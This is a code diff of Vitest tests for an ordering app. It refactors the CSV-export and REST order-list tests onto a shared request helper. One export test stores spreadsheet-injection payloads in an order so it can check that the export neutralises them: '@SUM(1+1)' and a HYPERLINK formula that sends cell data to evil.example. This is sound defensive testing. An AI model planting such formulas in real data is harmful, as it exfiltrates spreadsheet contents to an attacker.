@@ -1,14 +1,11 @@
 import { describe, expect, it } from "vitest";
-import { GET as listRoute, POST as postOrderRoute } from "@/app/api/v1/orders/route";
-import { GET as countRoute } from "@/app/api/v1/orders/count/route";
-import { GET as historyRoute } from "@/app/api/v1/orders/history/route";
-import { GET as storeOrdersRoute } from "@/app/api/v1/stores/[id]/orders/route";
 import { SYSTEM_ACTOR } from "@/server/services/actor";
 import { cancelOrder } from "@/server/services/close-order";
 import { createOrder } from "@/server/services/create-order";
 import { listOrders, ZListOrders } from "@/server/services/list-orders";
 import { makeStore, orderInput } from "@/test-support/orders";
 import { makeEmployee, makeToken, signInAs } from "@/test-support/people";
+import { rest } from "@/test-support/rest";
 import { GET as exportRoute } from "./route";
 
 const storeId = makeStore();
@@ -66,7 +63,7 @@ describe("CSV export", () => {
     const expected: number[] = [];
     let cursor: string | undefined;
     do {
-      const page = listOrders(ZListOrders.parse({ storeId, platform: ["doordash"], limit: 100, cursor }));
+      const page = listOrders(ZListOrders.parse({ store_id: storeId, platform: ["doordash"], limit: 100, cursor }), null);
       expected.push(...page.orders.map((o) => o.id));
       cursor = page.nextCursor ?? undefined;
     } while (cursor);
@@ -77,17 +74,10 @@ describe("CSV export", () => {
 
   it("writes no cell a spreadsheet would run, whatever an integrator put in the order", async () => {
     const attacked = makeStore();
-    const post = await postOrderRoute(
-      new Request("http://x/api/v1/orders", {
-        method: "POST",
-        headers: { "content-type": "application/json", authorization: `Bearer ${makeToken(["orders:write"], attacked)}` },
-        body: JSON.stringify({
-          ...orderInput(attacked),
-          external_id: "@SUM(1+1)",
-          customer: { first_name: '=HYPERLINK("http://evil.example/?"&A1,"Refund")', last_name: "" },
-        }),
-      }),
-    );
+    const post = await rest("POST", "/api/v1/orders", {
+      token: makeToken(["orders:write"], attacked),
+      body: { ...orderInput(attacked), external_id: "@SUM(1+1)", customer: { first_name: '=HYPERLINK("http://evil.example/?"&A1,"Refund")', last_name: "" } },
+    });
     expect(post.status).toBe(201);
     const manager = signInAs((await makeEmployee("manager", [attacked])).id).token;
     const response = await exportRoute(new Request(`http://x/api/orders/export?store_id=${attacked}`, { headers: { cookie: `ob_session=${manager}` } }));
@@ -115,26 +105,26 @@ describe("CSV export", () => {
 });
 
 describe("REST order lists", () => {
-  const auth = { authorization: `Bearer ${makeToken(["orders:read"], storeId)}` };
-  const get = (route: (r: Request) => Response | Promise<Response>, url: string) => route(new Request(`http://x${url}`, { headers: auth }));
+  const token = makeToken(["orders:read"], storeId);
+  const get = (url: string) => rest("GET", url, { token });
 
   it("page through GET /api/v1/orders with filters, limited to the token's store", async () => {
-    const first = await (await get(listRoute, `/api/v1/orders?platform=grubhub&limit=300`)).json();
+    const first = await (await get(`/api/v1/orders?platform=grubhub&limit=300`)).json();
     expect(first.orders).toHaveLength(300);
-    const second = await (await get(listRoute, `/api/v1/orders?platform=grubhub&limit=300&cursor=${first.next_cursor}`)).json();
+    const second = await (await get(`/api/v1/orders?platform=grubhub&limit=300&cursor=${first.next_cursor}`)).json();
     expect(second.orders).toHaveLength(101);
     expect(second.next_cursor).toBeNull();
     expect(new Set([...first.orders, ...second.orders].map((o: { platform: string }) => o.platform))).toEqual(new Set(["grubhub"]));
-    expect((await get(listRoute, `/api/v1/orders?store_id=${makeStore()}`)).status).toBe(403);
-    expect((await get(listRoute, `/api/v1/orders?status=lost`)).status).toBe(400);
+    expect((await get(`/api/v1/orders?store_id=${makeStore()}`)).status).toBe(403);
+    expect((await get(`/api/v1/orders?status=lost`)).status).toBe(400);
   });
 
   it("count, store orders and history agree with the list", async () => {
-    const counts = await (await get(countRoute, `/api/v1/orders/count?platform=grubhub`)).json();
+    const counts = await (await get(`/api/v1/orders/count?platform=grubhub`)).json();
     expect(counts).toMatchObject({ total: 401, active: 400, finished: 1, by_status: { cancelled: 1, incoming: 400 } });
-    const history = await (await get(historyRoute, `/api/v1/orders/history`)).json();
+    const history = await (await get(`/api/v1/orders/history`)).json();
     expect(history.orders.map((o: { id: number }) => o.id)).toEqual([made[6]!.id]);
-    const storeOrders = await storeOrdersRoute(new Request(`http://x/api/v1/stores/${storeId}/orders?limit=1`, { headers: auth }), { params: Promise.resolve({ id: storeId }) });
+    const storeOrders = await get(`/api/v1/stores/${storeId}/orders?limit=1`);
     expect((await storeOrders.json()).orders).toHaveLength(1);
   });
 });
